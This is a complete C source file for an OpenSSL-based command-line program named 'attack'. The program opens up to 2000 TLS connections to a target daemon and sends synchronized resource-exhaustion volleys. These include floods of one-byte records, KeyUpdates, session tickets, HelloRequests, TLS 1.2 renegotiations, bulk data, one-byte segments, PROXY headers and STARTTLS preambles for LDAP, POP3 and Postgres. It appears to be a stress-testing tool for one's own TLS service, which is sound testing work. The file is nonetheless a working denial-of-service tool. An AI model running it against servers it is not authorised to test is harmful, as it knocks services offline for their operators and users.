/*
 * Connections that cost a daemon much and themselves little. Each volley is prepared beforehand (what it encrypts,
 * too) and fired on all connections at once; then comes the next, until the time is up.
 */
#include "seal.h"
#include "tool.h"

#include <openssl/err.h>
#include <openssl/ssl.h>

#define RECORDS_MAX      1500 /* of one byte in a volley: more than one turn of a loop */
#define CONTROLS_MAX     40   /* messages that are not data: more than are accepted */
#define HOPELESS         20   /* connections in a row that fail */
#define PATIENCE_S       5
#define HANDSHAKE_HEADER 4
#define LARGE_RECORDS    8            /* in a volley */
#define BULK_SIZE        (256 * 1024) /* for each connection in a volley */

static const char help[] =
	"usage: attack [options] FORM ADDRESS\n"
	"  --count N       connections, 1 to 2000 (default 1)\n"
	"  --ms N          about so long, 1 to 60000 (default 1000)\n"
	"  --sni NAME      the server name of the hellos (default localhost)\n"
	"  --serve ADDRESS --cert FILE --key FILE    we are also the TLS server behind ADDRESS\n"
	"Forms:\n"
	"  handshakes      TLS handshakes, which all begin at the same time\n"
	"  records         records of one byte\n"
	"  keyupdates      a KeyUpdate, a byte, a KeyUpdate, a byte\n"
	"  tickets         as the server: a NewSessionTicket, a byte, a NewSessionTicket, a byte\n"
	"  hellos          as the server, TLS 1.2: a HelloRequest, a byte, a HelloRequest, a byte\n"
	"  flights         as the server: the answers to TLS handshakes, which all come at the same time\n"
	"  renegotiations  as the client, TLS 1.2: a ClientHello, a byte, a record full of them, a byte\n"
	"  bulk_records    records of 16 KiB, as many as the other side takes\n"
	"  bulk            a ClientHello, and then as many bytes as the other side takes\n"
	"  segments        a ClientHello in segments of one byte\n"
	"  proxy           PROXY headers, of both versions, whole and in segments of one byte, and a ClientHello\n"
	"  ldap  pop3  postgres    commands and a request for TLS, whole and in segments, and a ClientHello\n"
	"Prints \"volleys N connections N failed N refused N bytes N\". Exit status 1 if there was no volley.\n";

enum form {
	HANDSHAKES,
	RECORDS,
	KEYUPDATES,
	TICKETS,
	HELLOS,
	RENEGOTIATIONS,
	BULK_RECORDS,
	FLIGHTS,
	BULK,
	SEGMENTS,
	PROXY,
	LDAP,
	POP3,
	POSTGRES,
	FORMS
};

static const char *const form_names[FORMS] = {"handshakes", "records", "keyupdates", "tickets",
	"hellos", "renegotiations", "bulk_records", "flights", "bulk", "segments", "proxy", "ldap",
	"pop3", "postgres"};

struct connection {
	int fd, client_fd; /* 0 or less: none; client_fd: where we are the server */
	SSL *ssl;
	size_t sent;
	bool is_open, is_in_segments;
	struct seal seal; /* RENEGOTIATIONS */
	bool has_begun;   /* BULK: its ClientHello is sent */
};

static struct attack {
	enum form form;
	struct endpoint peer;
	SSL_CTX *context;
	const char *sni, *serve, *cert, *key;
	int listener;
	size_t count;
	uint64_t deadline, ms;
	struct connection *all;
	unsigned long volleys, connections, failed, refused;
	unsigned long long bytes;
} attack = {.sni = "localhost", .listener = -1, .count = 1, .ms = 1000};

/* What is to be sent lies in the memory that OpenSSL writes to. */

static size_t volley_data(const struct connection *connection, char **data)
{
	static char zeros[BULK_SIZE];
	if (connection->has_begun) {
		*data = zeros;
		return sizeof zeros;
	}
	return (size_t)BIO_get_mem_data(SSL_get_wbio(connection->ssl), data);
}

static void put(struct connection *connection, const void *data, size_t len)
{
	BIO_write(SSL_get_wbio(connection->ssl), data, (int)len);
}

static bool flush(struct connection *connection)
{
	char *data;
	size_t len = volley_data(connection, &data);
	bool is_sent = send_all(connection->fd, data, len);
	BIO_reset(SSL_get_wbio(connection->ssl));
	return is_sent;
}

static bool hear(struct connection *connection)
{
	char data[16384];
	ssize_t n = recv(connection->fd, data, sizeof data, 0);
	return n > 0 && BIO_write(SSL_get_rbio(connection->ssl), data, (int)n) == n;
}

static bool shake_hands(struct connection *connection)
{
	for (;;) {
		ERR_clear_error();
		int result = SSL_do_handshake(connection->ssl);
		if (!flush(connection))
			return false;
		if (result == 1)
			return true;
		if (SSL_get_error(connection->ssl, result) != SSL_ERROR_WANT_READ ||
			!hear(connection))
			return false;
	}
}

/* Volleys. */

static void put_proxy_header(struct connection *connection, bool is_version_1)
{
	static const char v1[] = "PROXY TCP4 192.0.2.1 192.0.2.2 1000 443\r\n";
	static const char v2[] =
		"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0c\xc0\0\2\1\xc0\0\2\2\3\xe8\1\xbb";
	if (is_version_1)
		put(connection, v1, sizeof v1 - 1);
	else
		put(connection, v2, sizeof v2 - 1);
}

static void put_pop3(struct connection *connection)
{
	for (int i = 0; i < 9; i++)
		put(connection, "NOOP\r\n", 6);
	put(connection, "STLS\r\n", 6);
}

static void put_start_tls(struct connection *connection)
{
	static const char request[] = "\x30\x1d\2\1\1\x77\x18\x80\x16"
				      "1.3.6.1.4.1.1466.20037";
	put(connection, request, sizeof request - 1);
}

static void put_records(struct connection *connection)
{
	int count = attack.form == RECORDS ? RECORDS_MAX : CONTROLS_MAX;
	for (int i = 0; i < count; i++) {
		if (attack.form == KEYUPDATES)
			SSL_key_update(connection->ssl, SSL_KEY_UPDATE_REQUESTED);
		if (attack.form == TICKETS)
			SSL_new_session_ticket(connection->ssl);
		if (attack.form == HELLOS && (SSL_renegotiate(connection->ssl) != 1))
			die("no renegotiation");
		if (attack.form == HELLOS)
			SSL_do_handshake(connection->ssl);
		SSL_write(connection->ssl, "x", 1);
	}
}

/* With nothing behind their heads: they are refused before that is looked at. */
static void put_renegotiations(struct connection *connection)
{
	uint8_t hellos[SSL3_RT_MAX_PLAIN_LENGTH] = {0}, record[sizeof hellos + SEAL_OVERHEAD];
	struct seal *seal = &connection->seal;
	if (seal->sequence == 0 && !seal_begin(seal, connection->ssl))
		die("no keys");
	for (size_t i = 0; i < sizeof hellos; i += HANDSHAKE_HEADER)
		hellos[i] = SSL3_MT_CLIENT_HELLO;
	for (int i = 0; i < CONTROLS_MAX; i++) {
		size_t len = i % 2 ? sizeof hellos : HANDSHAKE_HEADER;
		len = seal_record(seal, SSL3_RT_HANDSHAKE, hellos, len, record);
		put(connection, record, len);
		len = seal_record(seal, SSL3_RT_APPLICATION_DATA, "x", 1, record);
		put(connection, record, len);
	}
}

static void put_large_records(struct connection *connection)
{
	static const char zeros[SSL3_RT_MAX_PLAIN_LENGTH];
	for (int i = 0; i < LARGE_RECORDS; i++)
		SSL_write(connection->ssl, zeros, sizeof zeros);
}

static void load_volley(struct connection *connection, size_t index)
{
	connection->is_in_segments = attack.form == SEGMENTS || (attack.form >= PROXY && index & 1);
	switch (attack.form) {
	case RECORDS:
	case KEYUPDATES:
	case TICKETS:
	case HELLOS:
		put_records(connection);
		return;
	case RENEGOTIATIONS:
		put_renegotiations(connection);
		return;
	case BULK_RECORDS:
		put_large_records(connection);
		return;
	case PROXY:
		put_proxy_header(connection, index & 2);
		break;
	case LDAP:
		put_start_tls(connection);
		return; /* nothing may follow before the answer */
	case POP3:
		put_pop3(connection);
		return;
	case POSTGRES:
		put(connection, "\0\0\0\x08\x04\xd2\x16\x2f", 8); /* SSLRequest */
		return;
	case FLIGHTS:
		hear(connection);
		break;
	case BULK:
		if (connection->has_begun)
			return;
		break;
	case HANDSHAKES:
	case SEGMENTS:
	case FORMS:
		break;
	}
	SSL_do_handshake(connection->ssl); /* the hello, or what answers one */
}

static bool is_within_tls(void)
{
	return attack.form >= RECORDS && attack.form <= BULK_RECORDS;
}

/* Connections. */

static void close_one(struct connection *connection)
{
	if (connection->fd > 0) {
		reset_on_close(connection->fd);
		close(connection->fd);
	}
	if (connection->client_fd > 0)
		close(connection->client_fd);
	SSL_free(connection->ssl);
	*connection = (struct connection){0};
}

/* The client, or the server that the daemon connects to when a client comes. */
static bool connect_one(struct connection *connection)
{
	struct timeval patience = {.tv_sec = PATIENCE_S};
	int fd = connect_to(&attack.peer);
	if (attack.serve) {
		connection->client_fd = fd;
		fd = fd >= 0 ? accept(attack.listener, NULL, NULL) : -1;
	}
	connection->fd = fd;
	if (fd < 0)
		return false;
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &(int){1}, sizeof(int));
	return true;
}

static void open_one(struct connection *connection)
{
	attack.connections++;
	connection->ssl = SSL_new(attack.context);
	SSL_set_bio(connection->ssl, BIO_new(BIO_s_mem()), BIO_new(BIO_s_mem()));
	if (!attack.serve)
		SSL_set_tlsext_host_name(connection->ssl, attack.sni);
	if (attack.serve)
		SSL_set_accept_state(connection->ssl);
	else
		SSL_set_connect_state(connection->ssl);
	connection->is_open =
		connect_one(connection) && (!is_within_tls() || shake_hands(connection));
	attack.failed += !connection->is_open;
	if (!connection->is_open)
		close_one(connection);
}

static void prepare_all(void)
{
	int failures = 0;
	for (size_t i = 0; i < attack.count && failures < HOPELESS && now_us() < attack.deadline;
		i++) {
		struct connection *connection = &attack.all[i];
		if (!connection->is_open)
			open_one(connection);
		failures = connection->is_open ? 0 : failures + 1;
		if (!connection->is_open)
			continue;
		connection->sent = 0;
		load_volley(connection, i);
	}
}

/* Sends what the connection takes now; true while there is more. */
static bool fire(struct connection *connection)
{
	char *data;
	if (!connection->is_open)
		return false;
	size_t len = volley_data(connection, &data) - connection->sent;
	if (len == 0)
		return false;
	ssize_t n = send(connection->fd, data + connection->sent,
		connection->is_in_segments ? 1 : len, MSG_DONTWAIT | MSG_NOSIGNAL);
	if (n < 0 && errno != EAGAIN) {
		attack.refused++;
		close_one(connection);
		return false;
	}
	connection->sent += n > 0 ? (size_t)n : 0;
	attack.bytes += n > 0 ? (size_t)n : 0;
	return true;
}

static void fire_all(void)
{
	bool is_going = true;
	while (is_going && now_us() < attack.deadline) {
		is_going = false;
		for (size_t i = 0; i < attack.count; i++)
			is_going |= fire(&attack.all[i]);
	}
	attack.volleys++;
}

/* A connection before TLS has had its volley: the handshake follows where it may, and then another one. */
static void conclude(struct connection *connection)
{
	char answer[1024];
	if (!connection->is_open)
		return;
	BIO_reset(SSL_get_wbio(connection->ssl));
	connection->has_begun = attack.form == BULK;
	if (is_within_tls() || attack.form == BULK)
		return;
	bool is_late = now_us() >= attack.deadline;
	if (!is_late && attack.form >= LDAP) {
		if (recv(connection->fd, answer, sizeof answer, 0) > 0)
			SSL_do_handshake(connection->ssl);
		flush(connection);
	}
	if (!is_late && attack.form == HANDSHAKES)
		attack.failed += !hear(connection) || !shake_hands(connection);
	close_one(connection);
}

static void run(void)
{
	attack.deadline = now_us() + PATIENCE_S * 1000000;
	prepare_all();
	attack.deadline = now_us() + attack.ms * 1000;
	while (now_us() < attack.deadline) {
		fire_all();
		for (size_t i = 0; i < attack.count; i++)
			conclude(&attack.all[i]);
		prepare_all();
	}
	for (size_t i = 0; i < attack.count; i++)
		close_one(&attack.all[i]);
}

/* Beginning. */

static void make_context(void)
{
	attack.context = SSL_CTX_new(attack.serve ? TLS_server_method() : TLS_client_method());
	SSL_CTX_set_max_proto_version(attack.context,
		attack.form == HELLOS || attack.form == RENEGOTIATIONS ? TLS1_2_VERSION
								       : TLS1_3_VERSION);
	if (attack.form == RENEGOTIATIONS)
		SSL_CTX_set_cipher_list(attack.context, SEAL_CIPHERS);
	if (attack.cert &&
		(SSL_CTX_use_certificate_chain_file(attack.context, attack.cert) != 1 ||
			SSL_CTX_use_PrivateKey_file(attack.context, attack.key, SSL_FILETYPE_PEM) !=
				1))
		die("%s, %s: cannot be used", attack.cert, attack.key);
}

static void serve(void)
{
	struct timeval patience = {.tv_sec = PATIENCE_S};
	struct endpoint own = parse_endpoint(attack.serve);
	attack.listener = socket(own.any.sa_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	setsockopt(attack.listener, SOL_SOCKET, SO_REUSEADDR, &(int){1}, sizeof(int));
	setsockopt(attack.listener, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
	if (bind(attack.listener, &own.any, own.len) < 0 || listen(attack.listener, 4096) < 0)
		die("%s: %s", attack.serve, strerror(errno));
}

static enum form form_of(const char *name)
{
	for (enum form form = 0; form < FORMS; form++)
		if (strcmp(form_names[form], name) == 0)
			return form;
	die("%s: no such form", name);
}

static const struct option options[] = {
	{"count", required_argument, NULL, 'n'},
	{"ms", required_argument, NULL, 'm'},
	{"sni", required_argument, NULL, 'i'},
	{"serve", required_argument, NULL, 'l'},
	{"cert", required_argument, NULL, 'c'},
	{"key", required_argument, NULL, 'k'},
	{"help", no_argument, NULL, 'h'},
	{0},
};

static void parse(int argc, char **argv)
{
	for (int option; (option = getopt_long(argc, argv, "h", options, NULL)) != -1;) {
		switch (option) {
		case 'n':
			attack.count = (size_t)number(optarg, 1, 2000);
			break;
		case 'm':
			attack.ms = (uint64_t)number(optarg, 1, 60000);
			break;
		case 'i':
			attack.sni = optarg;
			break;
		case 'l':
			attack.serve = optarg;
			break;
		case 'c':
			attack.cert = optarg;
			break;
		case 'k':
			attack.key = optarg;
			break;
		default:
			show_help(help, option);
		}
	}
	if (optind + 2 != argc)
		show_help(help, '?');
	attack.form = form_of(argv[optind]);
	attack.peer = parse_endpoint(argv[optind + 1]);
}

int main(int argc, char **argv)
{
	parse(argc, argv);
	need_descriptors(2 * attack.count + 64);
	attack.all = calloc(attack.count, sizeof *attack.all);
	if (!attack.all)
		die("out of memory");
	make_context();
	if (attack.serve)
		serve();
	run();
	printf("volleys %lu connections %lu failed %lu refused %lu bytes %llu\n", attack.volleys,
		attack.connections, attack.failed, attack.refused, attack.bytes);
	SSL_CTX_free(attack.context);
	free(attack.all);
	return attack.volleys > 0 ? 0 : 1;
}
